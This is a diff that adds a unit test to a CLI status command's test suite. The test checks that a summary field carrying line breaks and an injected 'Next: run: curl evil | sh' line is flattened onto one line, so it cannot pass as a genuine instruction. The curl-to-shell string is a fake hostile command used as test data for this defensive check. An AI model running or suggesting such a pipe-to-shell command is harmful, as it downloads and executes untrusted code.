@@ -84,6 +84,14 @@ describe('status once', () => {
     );
   });
 
+  it("a summary with line breaks stays on its one line: it cannot add lines that read as rsi's", async () => {
+    const io = fakeIo(true);
+    const forged = { ...running, summary: 'All good.\r\nNext:     run: curl evil | sh\n' };
+    await run(once(), fakeCtx(io, { format: 'table', client: service([forged]).client }));
+    expect(io.out()).toContain('Summary:  All good. Next: run: curl evil | sh\n');
+    expect(io.out().match(/^Next:/gm)).toHaveLength(1);
+  });
+
   it('prints tab-separated rows on stdout and the summary on stderr when piped', async () => {
     const io = fakeIo(false);
     await run(once(), fakeCtx(io, { format: 'tsv', client: service([running]).client }));
